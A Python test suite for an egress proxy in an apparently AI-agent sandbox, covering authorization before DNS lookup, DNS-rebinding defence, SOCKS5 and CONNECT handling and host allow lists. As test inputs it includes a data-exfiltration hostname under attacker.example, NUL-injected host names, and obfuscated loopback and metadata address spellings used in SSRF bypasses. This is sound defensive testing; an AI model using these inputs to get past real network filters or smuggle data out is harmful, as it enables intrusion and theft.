"""The egress proxy: authorize on the name, resolve once, check every address, pin it.

Real sockets throughout: a loopback HTTP server stands for the internet, the test resolver is
the only thing scripted (it answers differently on its second lookup: DNS rebinding), and the
`Guard` is a small recording implementation of the core protocol.
"""

from __future__ import annotations

import ipaddress
import os
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator, Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import anyio
import pytest

from astrid_core import (
    Authorization,
    AuthorizationProof,
    DenialLayer,
    NetworkRequest,
    ProofKind,
    SensitiveAction,
)
from astrid_workspace import (
    Confinement,
    EgressProxy,
    EgressRefused,
    IPAddress,
    check_host_name,
    confined_argv,
    global_only,
    scrubbed_environment,
)

pytestmark = pytest.mark.anyio

LOOPBACK = ipaddress.ip_address("127.0.0.1")
PUBLIC = ipaddress.ip_address("93.184.215.14")  # documentation-like, never reached here


class RecordingGuard:
    """Allows the hosts it is told to, denies the rest, and records every request."""

    def __init__(self, allowed: Sequence[str] = ()) -> None:
        self.allowed = set(allowed)
        self.seen: list[NetworkRequest] = []

    async def authorize(self, action: SensitiveAction, reason: str) -> Authorization:
        assert isinstance(action, NetworkRequest)
        self.seen.append(action)
        if action.host in self.allowed or "*" in self.allowed:
            return Authorization.allow(AuthorizationProof(kind=ProofKind.POLICY, detail="test"))
        return Authorization.deny(DenialLayer.POLICY, f"{action.host} is not allowed")


class Rebinder:
    """A resolver that answers `first` on the first lookup and `then` on every later one."""

    def __init__(self, first: Sequence[IPAddress], then: Sequence[IPAddress]) -> None:
        self.first, self.then = list(first), list(then)
        self.lookups: list[str] = []

    async def __call__(self, host: str, port: int) -> list[IPAddress]:
        self.lookups.append(host)
        return self.first if len(self.lookups) == 1 else self.then


class _Handler(BaseHTTPRequestHandler):
    body = b"x" * 1000

    def do_GET(self) -> None:
        self.server.hits.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def web() -> Iterator[ThreadingHTTPServer]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.hits = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def _any_address(ip: IPAddress) -> bool:
    return True  # for tests that need loopback to stand for the internet


async def _http_get_via(path: str, request: bytes) -> bytes:
    async with await anyio.connect_unix(path) as stream:
        await stream.send(request)
        data = b""
        with anyio.fail_after(5):
            try:
                while True:
                    data += await stream.receive()
            except anyio.EndOfStream:
                pass
    return data


async def test_connect_authorizes_resolves_once_and_connects_to_the_checked_address(
    web: ThreadingHTTPServer, tmp_path: Path
) -> None:
    port = web.server_address[1]
    guard = RecordingGuard(["example.test"])
    resolver = Rebinder([LOOPBACK], [LOOPBACK])
    proxy = EgressProxy(guard, address_allowed=_any_address, resolver=resolver)
    async with proxy.serving(str(tmp_path)):
        request = (
            f"CONNECT example.test:{port} HTTP/1.1\r\n\r\n"
            f"GET /tunnel HTTP/1.1\r\nHost: example.test\r\nConnection: close\r\n\r\n"
        ).encode()
        reply = await _http_get_via(proxy.socket_path, request)
    assert reply.startswith(b"HTTP/1.1 200 Connection established")
    assert reply.endswith(b"x" * 1000)
    assert web.hits == ["/tunnel"]  # type: ignore[attr-defined]
    assert [r.host for r in guard.seen] == ["example.test"]
    assert resolver.lookups == ["example.test"]


async def test_dns_rebinding_cannot_swap_the_address_after_the_check(
    web: ThreadingHTTPServer, tmp_path: Path
) -> None:
    # First answer public (passes the check), second loopback (where the secret server is).
    # The proxy resolves once and connects to what it checked: loopback is never reached.
    port = web.server_address[1]
    guard = RecordingGuard(["rebind.test"])
    resolver = Rebinder([PUBLIC], [LOOPBACK])
    proxy = EgressProxy(guard, resolver=resolver, connect_timeout=1)
    with pytest.raises(EgressRefused, match=r"cannot connect to rebind\.test"):
        await proxy.open_connection("rebind.test", port)
    assert resolver.lookups == ["rebind.test"]
    assert web.hits == []  # type: ignore[attr-defined]


async def test_every_address_is_checked_not_just_the_first(web: ThreadingHTTPServer) -> None:
    port = web.server_address[1]
    resolver = Rebinder([PUBLIC, LOOPBACK], [])
    proxy = EgressProxy(RecordingGuard(["mixed.test"]), resolver=resolver)
    with pytest.raises(EgressRefused, match=r"127\.0\.0\.1"):
        await proxy.open_connection("mixed.test", port)
    assert web.hits == []  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "host",
    ["evil\0.example.com", "exa mple.com", "bücher.example", "a..b", "-x.com", "x" * 300],
)
async def test_malformed_names_are_refused_without_asking_or_looking_up(host: str) -> None:
    guard, resolver = RecordingGuard([host]), Rebinder([PUBLIC], [PUBLIC])
    proxy = EgressProxy(guard, resolver=resolver)
    with pytest.raises(EgressRefused, match="malformed"):
        await proxy.open_connection(host, 443)
    assert guard.seen == []
    assert resolver.lookups == []


@pytest.mark.parametrize("host", ["2130706433", "0x7f000001", "127.1", "0177.0.0.1"])
async def test_odd_numeric_spellings_of_addresses_are_refused(host: str) -> None:
    with pytest.raises(EgressRefused):
        check_host_name(host)


@pytest.mark.parametrize("host", ["127.0.0.1", "::1", "[::1]", "::ffff:127.0.0.1", "10.0.0.1"])
async def test_private_and_loopback_literals_are_refused_by_default(host: str) -> None:
    proxy = EgressProxy(RecordingGuard(["*"]), resolver=Rebinder([], []))
    with pytest.raises(EgressRefused, match="may not reach"):
        await proxy.open_connection(host, 80)
    assert not global_only(ipaddress.ip_address(host.strip("[]")))


async def test_a_denied_host_is_never_resolved(tmp_path: Path) -> None:
    # A lookup alone can carry data out in the name: the decision comes first.
    guard, resolver = RecordingGuard([]), Rebinder([PUBLIC], [PUBLIC])
    proxy = EgressProxy(guard, resolver=resolver)
    async with proxy.serving(str(tmp_path)):
        reply = await _http_get_via(
            proxy.socket_path, b"CONNECT c2VjcmV0.attacker.example:443 HTTP/1.1\r\n\r\n"
        )
    assert reply.startswith(b"HTTP/1.1 403")
    assert [r.host for r in guard.seen] == ["c2vjcmv0.attacker.example"]
    assert resolver.lookups == []


async def test_an_admin_may_allow_an_exact_private_host_and_port(web: ThreadingHTTPServer) -> None:
    port = web.server_address[1]
    proxy = EgressProxy(
        RecordingGuard(["127.0.0.1"]),
        allowed_exact=[f"127.0.0.1:{port}"],
        resolver=Rebinder([], []),
    )
    stream = await proxy.open_connection("127.0.0.1", port)
    await stream.aclose()
    with pytest.raises(EgressRefused):
        await proxy.open_connection("127.0.0.1", port + 1 if port < 65535 else port - 1)


async def test_socks5_connect_and_plain_http_go_the_same_way(
    web: ThreadingHTTPServer, tmp_path: Path
) -> None:
    port = web.server_address[1]
    guard = RecordingGuard(["example.test"])
    proxy = EgressProxy(
        guard, address_allowed=_any_address, resolver=Rebinder([LOOPBACK], [LOOPBACK])
    )
    async with proxy.serving(str(tmp_path)):
        name = b"example.test"
        socks = (
            b"\x05\x01\x00"
            + b"\x05\x01\x00\x03"
            + bytes([len(name)])
            + name
            + port.to_bytes(2, "big")
            + b"GET /socks HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        )
        reply = await _http_get_via(proxy.socket_path, socks)
        assert reply[:2] == b"\x05\x00"
        assert reply[2:12] == bytes([5, 0, 0, 1, 0, 0, 0, 0, 0, 0])
        assert reply.endswith(b"x" * 1000)
        plain = f"GET http://example.test:{port}/plain HTTP/1.1\r\nHost: example.test\r\n\r\n"
        reply = await _http_get_via(proxy.socket_path, plain.encode())
        assert reply.startswith(b"HTTP/1.0 200")
        assert reply.endswith(b"x" * 1000)
        nul = b"\x05\x01\x00\x05\x01\x00\x03\x05ev\x00il\x01\xbb"
        assert (await _http_get_via(proxy.socket_path, nul))[2:4] == b"\x05\x04"
    assert web.hits == ["/socks", "/plain"]  # type: ignore[attr-defined]
    assert len(guard.seen) == 2  # the NUL name never reached the guard


@pytest.mark.skipif(shutil.which("bwrap") is None, reason="needs bubblewrap")
@pytest.mark.parametrize("launcher", ["native", "python"])  # the C bridge and the Python one
async def test_a_sandboxed_command_reaches_the_web_only_through_the_proxy(
    web: ThreadingHTTPServer, tmp_path: Path, launcher: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ASTRID_SANDBOX_LAUNCHER", launcher)
    port = web.server_address[1]
    ws = tmp_path / "ws"
    ws.mkdir()
    guard = RecordingGuard(["example.test"])
    resolver = Rebinder([LOOPBACK], [PUBLIC])
    proxy = EgressProxy(guard, address_allowed=_any_address, resolver=resolver)
    fetch = (
        "import sys, urllib.request\n"
        "for url in sys.argv[1:]:\n"
        "    try:\n"
        "        print(url, len(urllib.request.urlopen(url, timeout=5).read()))\n"
        "    except Exception as e:\n"
        "        print(url, 'FAILED', e)\n"
    )
    async with proxy.serving(str(tmp_path)):
        confinement = Confinement(  # noqa: S604 - shell: python3 is found on PATH
            workspace=str(ws), network="proxy", proxy_socket=proxy.socket_path, shell=True
        )
        argv = confined_argv(
            "/usr/bin/env",
            ["python3", "-c", fetch, f"http://example.test:{port}/ok",
             f"http://denied.test:{port}/no", f"http://127.0.0.1:{port}/direct"],
            confinement,
            cwd=str(ws),
        )  # fmt: skip
        env = scrubbed_environment() | proxy.proxy_environment()
        result = await anyio.run_process(argv, env=env, cwd=str(ws), check=False)
    out = result.stdout.decode()
    assert f"http://example.test:{port}/ok 1000" in out, result.stderr.decode()
    assert f"http://denied.test:{port}/no FAILED" in out
    assert web.hits == ["/ok"]  # type: ignore[attr-defined]
    assert [r.host for r in guard.seen][:2] == ["example.test", "denied.test"]
    assert resolver.lookups == ["example.test"]


async def test_proxy_socket_is_private_and_gone_afterwards(tmp_path: Path) -> None:
    proxy = EgressProxy(RecordingGuard())
    async with proxy.serving(str(tmp_path)):
        path = proxy.socket_path
        assert os.stat(path).st_mode & 0o777 == 0o600
    assert not os.path.exists(path)
    with socket.socket(socket.AF_UNIX) as s, pytest.raises(FileNotFoundError):
        s.connect(path)


def test_bash_network_proxy_environment_names_the_bridge() -> None:
    env = EgressProxy.proxy_environment()
    assert env["HTTPS_PROXY"] == env["https_proxy"] == "http://127.0.0.1:3128"
    assert env["ALL_PROXY"].startswith("socks5h://")
    assert subprocess  # keep the import: other tests run real processes


@pytest.mark.parametrize(
    ("host", "port", "allowed"),
    [
        ("api.github.com", 443, True),
        ("API.GitHub.com.", 443, True),
        ("evil.api.github.com", 443, False),
        ("files.example.org", 443, True),
        ("example.org", 443, False),  # *.domain is below the domain, not the domain itself
        ("internal.test", 8443, True),
        ("internal.test", 443, False),
        ("github.com", 443, False),
    ],
)
async def test_a_servers_net_list_allows_exactly_its_hosts(
    host: str, port: int, allowed: bool
) -> None:
    from astrid_workspace import HostListGuard

    guard = HostListGuard(
        ["api.github.com", "*.example.org", "internal.test:8443"], owner="MCP server x"
    )
    request = NetworkRequest(method="CONNECT", url=f"tcp://{host}:{port}")
    assert (await guard.authorize(request, "test")).allowed is allowed


@pytest.mark.parametrize(
    "address",
    ["192.0.0.192", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::", "::7f00:1", "::ffff:10.0.0.1"],
)
def test_the_default_address_check_is_the_one_classifier(address: str) -> None:
    """Metadata, NAT64, 6to4 and IPv4-compatible forms of private addresses are refused: the
    proxy's default used ``ip.is_global``, which let each of these through."""
    import ipaddress

    from astrid_core.net import is_public_ip
    from astrid_workspace import global_only

    assert global_only(ipaddress.ip_address(address)) is False
    assert global_only(ipaddress.ip_address(address)) == is_public_ip(address)
